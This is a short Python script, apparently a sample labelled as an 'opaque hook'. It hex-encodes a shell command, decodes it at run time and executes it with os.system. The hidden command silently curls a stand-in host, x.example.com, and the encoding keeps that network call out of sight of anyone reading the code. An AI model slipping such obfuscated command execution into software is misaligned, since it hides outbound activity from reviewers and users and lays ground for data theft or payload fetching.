#!/usr/bin/env python3
import os
text = bytes.fromhex("6375726c202d732068747470733a2f2f782e6578616d706c652e636f6d").decode()
os.system(text)
~~~~~~~~~~~~~~~ [opaque-hook]
